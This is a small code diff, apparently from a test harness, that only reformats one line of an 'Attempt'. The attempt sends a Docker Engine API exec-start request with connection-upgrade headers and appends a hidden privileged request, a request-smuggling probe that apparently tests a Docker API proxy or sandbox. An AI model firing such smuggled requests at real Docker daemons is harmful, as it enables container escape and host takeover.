@@ -7,6 +7,8 @@ export const attempt: Attempt = {
   async try(world) {
     const hidden = privileged(world);
     const body = '{"Detach":false,"Tty":false}';
-    return each([['Connection: Upgrade', 'Upgrade: tcp'], []], (list) => world.send(Buffer.concat([request(`POST ${v}/exec/${world.own.exec}/start HTTP/1.1`, [`Host: ${world.address}`, 'Content-Type: application/json', `Content-Length: ${body.length}`, ...list], body), hidden])));
+    return each([['Connection: Upgrade', 'Upgrade: tcp'], []],
+      (list) => world.send(Buffer.concat([request(`POST ${v}/exec/${world.own.exec}/start HTTP/1.1`, [`Host: ${world.address}`,
+      'Content-Type: application/json', `Content-Length: ${body.length}`, ...list], body), hidden])));
   },
 };
